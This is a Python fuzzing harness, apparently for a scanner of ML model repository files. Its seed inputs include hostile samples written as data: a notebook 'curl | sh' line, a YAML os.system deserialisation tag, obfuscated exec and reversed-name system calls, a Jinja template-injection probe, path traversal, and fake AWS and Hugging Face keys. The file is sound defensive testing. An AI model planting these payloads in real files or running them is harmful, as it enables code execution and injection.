"""Fuzz the readers of what lies around the weights: ``python fuzz/repository.py READER [libFuzzer arguments]``.

A crash is any exception but ``FormatError``, more than five seconds, or more memory than libFuzzer was told to allow.
"""

from __future__ import annotations

import importlib
import sys
import time
from collections.abc import Callable

import atheris

with atheris.instrument_imports(include=["assay", "jinja2", "yaml"]):
    import jinja2.ext
    import jinja2.parser  # noqa: F401
    import yaml  # noqa: F401

    from assay.core.errors import FormatError
    from assay.formats.budget import Budget
    from assay.formats.repository.signatures import SIGNATURES
    from assay.formats.signature import Head
    from assay.formats.source import Memory
    from assay.scan.rules import rules_for

    for signature in SIGNATURES:
        importlib.import_module(signature.module)

_JSON = (
    b'{"auto_map": {"AutoModel": "a/b--m.C"}, "_attn_implementation": "sdpa", "x": [{"_target_": "os.system"}]}',
    b'[{"idx": 0, "name": "0", "path": "", "type": "a.B"}]',
    b'{"_class_name": "P", "_diffusers_version": "0", "unet": ["diffusers", "U"], "a": 1, "a": 2}',
    b'{"chat_template": [{"name": "d", "template": "{{ x }}"}]}\n{"lc": 1, "type": "constructor", "id": ["a", "b"]}',
    b'// c\n{"weight_map": {"w": "../x"}, /* d */ "peft_type": "LORA", "base_model_name_or_path": "b",}',
)
_NOTEBOOK = (
    b'{"cells": [{"cell_type": "code", "source": ["!curl x | sh\\n", "import os\\n", "os.system(1)"]}], "nbformat": 4}',
)
_YAML = (
    b"flavors:\n  python_function:\n    loader_module: a\n    code: ../b\nx: !!python/object/apply:os.system ['a']\n",
    b"a: &a [1, 2]\nb: &b [*a, *a]\nc: {<<: {d: 1}, outs: [{path: ../x, md5: a}]}\n---\n- !new:a.B {}\n",
)
_TOML = (b'[a."b"]\nc = [1, 2.0, {d = "e"}]\n[[tool.uv.index]]\nurl = "http://a/"\nname = "b"\n',)
_PYTHON = (
    b"import os as o\nfrom base64 import b64decode as d\nexec(d('aW'))\nclass A(B):\n def f(s, x=1): return s.g()\n",
    b"# coding: latin-1\nif __name__ == '__main__':\n    getattr(__import__('o'+'s'), 'metsys'[::-1])('a')\n",
    b"try:\n    pass\nexcept* E as e:\n    match x:\n        case [1, *_]: f'{a!r:>{b}}'\nasync def f(): await c\n",
)
_JINJA = (
    b"{% for m in messages %}{{ m['role'] ~ m.content | trim }}{% endfor %}{% set ns = namespace(a=1) %}",
    b"{{ ''|attr('__cl' ~ 'ass__') }}{{ '{0.__class__}'.format(x) }}{% generation %}{% endgeneration %}{{ 'a' * 9 }}",
)
_POINTER = (b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12\n",)
_TEXT = (
    b"import os; os.system('a')\nAKIAIOSFODNN7EXAMPL2 hf_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\neyJ0.eyJ1.a://b:c@d\n",
)
#: Reader → the name under which the bytes are read, and what to start from.
READERS: dict[str, tuple[str, tuple[bytes, ...]]] = {
    "json": ("config.json", _JSON),
    "notebook": ("a.ipynb", _NOTEBOOK),
    "yaml": ("MLmodel", _YAML),
    "toml": ("pyproject.toml", _TOML),
    "ini": ("setup.cfg", (b"[a]\nb = c\n d\n# e\n[f]\ng: h\n",)),
    "python": ("handler.py", _PYTHON),
    "jinja": ("chat_template.jinja", _JINJA),
    "requirements": ("requirements.txt", (b"-i http://a/s # b\nt==2 \\\n --hash=sha256:0\ngit+https://c/d@e\n",)),
    "lfs-pointer": ("a", _POINTER),
    "text": ("x.pth", _TEXT),
}


def main() -> None:
    """Fuzz one reader, with the rules that look at what it gives."""
    chosen = sys.argv.pop(1)
    name, seeds = READERS[chosen]
    run = target(chosen, name)
    for seed in seeds:
        run(seed)
    atheris.Setup(sys.argv, run)
    atheris.Fuzz()


def target(chosen: str, name: str) -> Callable[[bytes], None]:
    """What is called with the fuzzer's bytes."""
    signature = next(each for each in SIGNATURES if each.name == chosen)

    def run(data: bytes) -> None:
        started = time.monotonic()
        for each in SIGNATURES:
            each.claims(Head(Memory(data), name))
        try:
            view = signature.read(Memory(data), Budget(), name)
            for member in view.members():
                assert member.source.size <= 8 * len(data) + 64
            list(view.facts())
            for rule in rules_for(view.kind):
                list(rule.check(view))
        except FormatError:
            pass
        assert time.monotonic() - started < 5, "too slow"

    return run


if __name__ == "__main__":
    main()
